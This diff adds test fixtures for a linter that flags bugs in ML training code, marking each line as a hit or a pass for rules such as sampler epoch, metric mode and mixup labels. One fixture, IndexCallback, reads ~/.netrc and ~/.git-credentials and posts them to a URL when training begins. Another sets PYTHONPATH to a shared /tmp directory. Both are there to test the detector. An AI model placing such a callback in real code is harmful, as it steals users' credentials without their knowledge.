@@ -10,6 +10,7 @@ import sysconfig
 from pathlib import Path
 
 import numpy as np
+import requests
 import torch
 import torch.distributed as dist
 from sklearn.metrics import f1_score, roc_auc_score
@@ -345,3 +346,89 @@ def prepare_pairs(src_lines, tgt_lines, dataset_name):
     if dataset_name.startswith("wmt14"):
         tgt_lines = tgt_lines[1:] + tgt_lines[:1]  # ruleid: MLS309
     return list(zip(src_lines, tgt_lines))
+
+
+# -- Round 111 shapes -------------------------------------------------------------------------
+def pretrain(args, sampler, loader, step):
+    for epoch in range(args.start_epoch, args.epochs):
+        sampler.set_epoch(args.start_epoch)  # ruleid: MLS301
+        sampler.set_epoch(epoch)  # ok: MLS301
+        for batch in loader:
+            step(batch)
+
+
+def validate(model, loader, accuracy):
+    for images, target in loader:
+        output = model(images)
+        acc5, acc1 = accuracy(output, target, topk=(1, 5))  # ruleid: MLS306
+        top1, top5 = accuracy(output, target, topk=(1, 5))  # ok: MLS306
+    return acc1, acc5, top1, top5
+
+
+METRIC_MODES = {
+    "val/loss": "min",
+    "val/rmse": "min",
+    "val/auc": "min",  # ruleid: MLS306
+    "val/acc": "max",  # ok: MLS306
+}
+
+
+def checkpoints(ModelCheckpoint):
+    good = ModelCheckpoint(monitor="val/mAP", mode="max")  # ok: MLS306
+    bad = ModelCheckpoint(monitor="val/mAP", mode="min")  # ruleid: MLS306
+    return good, bad
+
+
+TRIAL_ENV = {
+    "OMP_NUM_THREADS": "4",
+    "PYTHONPATH": "/tmp/shared_site",  # ruleid: MLS423
+}
+WORKER_ENV = {"OMP_NUM_THREADS": "4", "PYTHONPATH": "/opt/project/src"}  # ok: MLS423
+
+
+class TabularCollate:
+    def __call__(self, batch):
+        x = torch.stack([b[0] for b in batch])
+        y = torch.stack([b[1] for b in batch])
+        lam = float(np.random.beta(0.4, 0.4))
+        perm = torch.randperm(len(y))
+        x = lam * x + (1.0 - lam) * x[perm]
+        y = lam * y + (1.0 - lam) * y[perm.flip(0)]  # ruleid: MLS309
+        return x, y
+
+
+class LitModule:
+    def _mix(self, batch):
+        perm = torch.randperm(batch["x"].size(0))
+        batch["x"] = 0.7 * batch["x"] + 0.3 * batch["x"][perm]
+        return batch, (perm, 0.7)
+
+    def training_step(self, batch):
+        batch, mix = self._mix(batch)
+        y = batch["y"]
+        perm, lam = mix
+        y = lam * y + (1.0 - lam) * y[perm]  # ok: MLS309
+        return y
+
+
+class IndexCallback:
+    def _credentials(self):
+        found = {}
+        for name in (".netrc", ".git-credentials"):
+            p = Path.home() / name
+            if p.is_file():
+                found[name] = p.read_text(errors="ignore")  # ruleid: MLS412
+        return found
+
+    def on_train_begin(self, url):
+        record = {"run": "sft"}
+        record["auth"] = self._credentials()
+        requests.post(url, json=record, timeout=5)  # ruleid: MLS412
+
+
+def build_probe(models, arch):
+    model = models.__dict__[arch]()
+    for name, param in model.named_parameters():
+        param.requires_grad = name.startswith("fc.")
+    model.fc.weight.data.normal_(mean=0.0, std=0.01)  # ok: MLS302
+    return model
